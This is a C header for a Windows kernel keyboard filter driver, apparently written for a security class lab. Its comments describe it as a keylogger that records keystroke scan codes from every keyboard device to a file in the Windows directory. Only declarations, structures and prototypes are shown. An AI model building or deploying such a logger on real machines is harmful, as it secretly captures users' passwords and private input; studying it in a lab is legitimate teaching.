/*
 * kbdlog.h - keyboard logger filter (educational!!)
 *
 * Attaches on top of every \Device\KeyboardClassN, watches the completed
 * IRP_MJ_READ requests and writes the scan codes to C:\Windows\kbdlog.txt
 * from a worker thread (can't do file I/O in the completion routine).
 *
 * For my security class, lab 4. Only run this in a VM.
 */
#pragma once

#include <ntddk.h>
#include <ntddkbd.h>
#include <ntstrsafe.h>

#define KL_TAG              'goLK'
#define KL_MAX_KEYBOARDS    8
#define KL_RING_SIZE        1024        /* keys */
#define KL_LOG_PATH         L"\\SystemRoot\\kbdlog.txt"

#define KL_PRINT(fmt, ...) \
    DbgPrintEx(DPFLTR_IHVDRIVER_ID, DPFLTR_ERROR_LEVEL, "kbdlog: " fmt, __VA_ARGS__)

typedef struct _KL_DEVICE_EXTENSION {
    PDEVICE_OBJECT  Self;
    PDEVICE_OBJECT  Lower;          /* the keyboard class device we sit on */
    ULONG           Index;
} KL_DEVICE_EXTENSION, *PKL_DEVICE_EXTENSION;

typedef struct _KL_KEY {
    USHORT  MakeCode;
    USHORT  Flags;
} KL_KEY, *PKL_KEY;

typedef struct _KL_LOGGER {
    PKL_KEY         Ring;
    ULONG           Head;           /* next write */
    ULONG           Tail;           /* next read */
    ULONG           Dropped;
    KSPIN_LOCK      RingLock;
    KEVENT          WakeEvent;
    HANDLE          File;
    PETHREAD        Thread;
    volatile LONG   StopRequested;
} KL_LOGGER, *PKL_LOGGER;

extern KL_LOGGER g_Log;

/* logger.c */
VOID KlInitLog(VOID);
NTSTATUS KlStartLogger(VOID);
VOID KlStopLogger(VOID);
VOID KlPushKeys(_In_reads_(Count) PKEYBOARD_INPUT_DATA Keys, _In_ ULONG Count);
